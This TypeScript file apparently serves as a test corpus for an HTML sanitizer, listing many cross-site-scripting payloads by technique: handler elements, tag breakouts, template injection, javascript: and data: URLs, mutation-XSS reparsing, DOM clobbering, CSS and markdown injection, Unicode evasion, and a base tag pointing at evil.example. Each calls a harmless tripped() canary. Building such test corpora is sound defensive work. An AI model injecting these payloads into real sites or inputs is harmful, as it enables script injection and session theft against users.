// What people have tried to make a page run, by technique. Each would call `tripped()` or leave an element marked
// `tripwire` in the page. The list is ours; the techniques are public knowledge.

const CALL = "tripped()";

/** An element that runs something by itself, or when it is looked at or touched. */
const ELEMENTS = [
  ["script", ""],
  ["img", "src=x"],
  ["svg", ""],
  ["body", ""],
  ["video", "src=x"],
  ["audio", "src=x"],
  ["iframe", "src=x"],
  ["object", "data=x"],
  ["input", "autofocus"],
  ["select", "autofocus"],
  ["textarea", "autofocus"],
  ["details", "open"],
  ["marquee", ""],
  ["a", "href=x"],
  ["form", ""],
  ["x", "contenteditable"],
] as const;

const HANDLERS = ["onerror", "onload", "onfocus", "ontoggle"];

const elements = ELEMENTS.flatMap(([name, more]) =>
  HANDLERS.map((handler) => `<${name} tripwire ${more} ${handler}=${CALL}>`),
);

const handlers = [
  "onclick",
  "onmouseover",
  "onpointerenter",
  "onanimationstart",
  "ontransitionend",
  "onbeforematch",
  "onscrollend",
  "oncontentvisibilityautostatechange",
].map((handler) => `<b tripwire tabindex=0 style=animation:x ${handler}=${CALL}>x</b>`);

const scripts = [
  `<script tripwire>${CALL}</script>`,
  `<ScRiPt tripwire>${CALL}</sCrIpT>`,
  `<script\ttripwire>${CALL}</script >`,
  `<script/tripwire>${CALL}</script/x>`,
  `<script tripwire src=data:text/javascript,${CALL}></script>`,
  `<script tripwire type=module>${CALL}</script>`,
  `<script tripwire type=importmap>{"imports":{}}</script>`,
  `</script><script tripwire>${CALL}</script>`,
  `</title><script tripwire>${CALL}</script>`,
  `</textarea><script tripwire>${CALL}</script>`,
  `</style><script tripwire>${CALL}</script>`,
  `--><script tripwire>${CALL}</script>`,
  `]]><script tripwire>${CALL}</script>`,
  `<!--><script tripwire>${CALL}</script>-->`,
  `<scr<script>ipt tripwire>${CALL}</scr</script>ipt>`,
  `<script tripwire>${CALL}`,
];

/** Out of the attribute, the string or the expression in which it might stand. */
const ESCAPES = [
  (code: string) => `" tripwire autofocus onfocus=${code} x="`,
  (code: string) => `' tripwire autofocus onfocus=${code} x='`,
  (code: string) => `\` tripwire autofocus onfocus=${code} x=\``,
  (code: string) => `"><img tripwire src=x onerror=${code}>`,
  (code: string) => `'><img tripwire src=x onerror=${code}>`,
  (code: string) => `";${code};//`,
  (code: string) => `';${code};//`,
  (code: string) => `\`;${code};//`,
  (code: string) => `\\";${code};//`,
  (code: string) => `\u2028${code}\u2029//`,
  (code: string) => `*/${code}/*`,
  (code: string) => `};${code};{`,
];
const escapes = ESCAPES.flatMap((out) => [out(CALL), out("window['tripped']()")]);

const templates = [
  `$\{${CALL}}`,
  `\`$\{${CALL}}\``,
  "{{tripped()}}",
  "{{constructor.constructor('tripped()')()}}",
]
  .concat([
    "<%= tripped() %>",
    "#{tripped()}",
    "[[tripped()]]",
    "@{tripped()}",
    "{tripped()}",
    "{%tripped()%}",
  ])
  .concat(['{"__html":"<i tripwire>"}', "dangerouslySetInnerHTML={{__html:'<i tripwire>'}}"])
  .concat([
    "{count, plural, one {<tripwire>} other {tripped()}}",
    "<entry>tripped()</entry>",
    "'{'tripwire'}'",
  ]);

const SCHEMES = [
  "javascript:tripped()",
  "JaVaScRiPt:tripped()",
  "java\tscript:tripped()",
  " \u0001javascript:tripped()",
  "javascript&colon;tripped()",
  "&#106;avascript:tripped()",
  "vbscript:tripped()",
  "data:text/html,<script tripwire>tripped()</script>",
  "data:text/html;base64,PHNjcmlwdD50cmlwcGVkKCk8L3NjcmlwdD4=",
  "blob:tripped()",
  "https://tripped()@evil.example/",
  "//evil.example/%0atripped()",
];
const addresses = SCHEMES.flatMap((scheme) => [scheme, `<a tripwire href="${scheme}">x</a>`]);

/** Harmless as text, alive once a parser has read it twice. */
const reparsed = [
  `<svg><style><img tripwire src=x onerror=${CALL}></style></svg>`,
  `<math><mtext><table><mglyph><style><img tripwire src=x onerror=${CALL}>`,
  `<svg></p><style><a id="</style><img tripwire src=x onerror=${CALL}>">`,
  `<noscript><p title="</noscript><img tripwire src=x onerror=${CALL}>">`,
  `<svg><foreignObject><iframe tripwire srcdoc="<script>parent.${CALL}</script>">`,
  `<svg><animate tripwire onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><set tripwire onbegin=${CALL} attributeName=x>`,
  `<svg><a tripwire xlink:href="javascript:${CALL}"><text>x</text></a></svg>`,
  `<svg><use tripwire href="data:image/svg+xml,<svg id='x' onload='${CALL}'/>#x">`,
  `<math tripwire href="javascript:${CALL}">x</math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img tripwire src onerror=${CALL}>`,
  `<template><script tripwire>${CALL}</script></template>`,
  `<table><td><script tripwire>${CALL}</script>`,
  `<select><iframe><script tripwire>${CALL}</script>`,
  `<xmp><img title="</xmp><img tripwire src=x onerror=${CALL}>">`,
  `&lt;img tripwire src=x onerror=${CALL}&gt;`,
  `&amp;lt;img tripwire src=x onerror=${CALL}&amp;gt;`,
  `&#60;img tripwire src=x onerror=${CALL}&#62;`,
  `\\u003cimg tripwire src=x onerror=${CALL}\\u003e`,
  `%3Cimg tripwire src=x onerror=${CALL}%3E`,
  `+ADw-img tripwire src+AD0-x onerror+AD0-${CALL}+AD4-`,
];

const elsewhere = [
  `<base tripwire href=https://evil.example/>`,
  `<meta tripwire http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<link tripwire rel=stylesheet href=data:text/css,*{}>`,
  `<link tripwire rel=import href=data:text/html,x>`,
  `<embed tripwire src=javascript:${CALL}>`,
  `<button tripwire formaction=javascript:${CALL}>x</button>`,
  `<input tripwire type=image src=x onerror=${CALL}>`,
  `<isindex tripwire action=javascript:${CALL} type=image>`,
  `<portal tripwire src=javascript:${CALL}>`,
  `<a tripwire id=cookie name=body href=x>clobbered</a>`,
  `<img tripwire name=getElementById>`,
  `<form tripwire id=location><input name=href></form>`,
];

const styles = [
  `<style tripwire>*{background:url(javascript:${CALL})}</style>`,
  `<b tripwire style="width:expression(${CALL})">x</b>`,
  `<b tripwire style="background:url('javascript:${CALL}')">x</b>`,
  `<style tripwire>@import 'data:text/css,*{color:red}';</style>`,
  `red;}</style><img tripwire src=x onerror=${CALL}>`,
  `<b tripwire style="position:fixed;inset:0">covers all</b>`,
];

const marked = [
  `[x](javascript:${CALL})`,
  `![x](x"onerror="${CALL})`,
  `[x]: javascript:${CALL}`,
  `<javascript:${CALL}>`,
  "```html\n<img tripwire src=x onerror=tripped()>\n```",
  `=HYPERLINK("javascript:${CALL}")`,
];

/** Marks that turn, hide or break text, and signs that are cut in two by whoever counts bytes. */
const signs = [
  `\u202e<img tripwire src=x onerror=${CALL}>`,
  `\u2066\u202e>)(deppirt=rorreno x=crs gmi<\u2069`,
  `\ufeff<img tripwire src=x onerror=${CALL}>`,
  `\u200b<\u200bimg tripwire src=x onerror=${CALL}>`,
  `＜img tripwire src=x onerror=${CALL}＞`,
  `\u{e003c}\u{e0069}tripped()`,
  `<img\u000ctripwire\u000csrc=x\u000conerror=${CALL}>`,
  `<img\u000btripwire src=x onerror=${CALL}>`,
  `\u0008<img tripwire src=x onerror=${CALL}>`,
  `\u001b[2J<img tripwire src=x onerror=${CALL}>`,
  `ſcript <ſcript tripwire>${CALL}</ſcript>`,
  `\u{1f600}<img tripwire src=x onerror=${CALL}>\u{1f600}`,
];

export const PAYLOADS: readonly string[] = [
  ...elements,
  ...handlers,
  ...scripts,
  ...escapes,
  ...templates,
  ...addresses,
  ...reparsed,
  ...elsewhere,
  ...styles,
  ...marked,
  ...signs,
];
